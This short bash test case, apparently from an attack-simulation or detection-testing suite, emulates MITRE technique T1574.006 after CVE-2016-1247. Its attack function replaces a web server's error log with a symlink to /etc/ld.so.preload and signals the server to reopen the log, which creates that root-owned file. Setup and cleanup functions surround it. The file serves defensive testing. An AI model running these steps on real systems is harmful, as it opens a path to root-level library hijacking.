# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1574.006
about="the log is made a symbolic link to /etc/ld.so.preload before it is reopened (as CVE-2016-1247)"
before() { rm -f /etc/ld.so.preload; }
attack() {
	rm -f $site/log/error.log
	ln -s /etc/ld.so.preload $site/log/error.log
	local config=/srv/web/nginx.conf
	kill -USR1 "$(cat /run/web.pid)"
	perhaps effect
}
effect() { [ -e /etc/ld.so.preload ]; }
after() { rm -f /etc/ld.so.preload $site/log/error.log; }
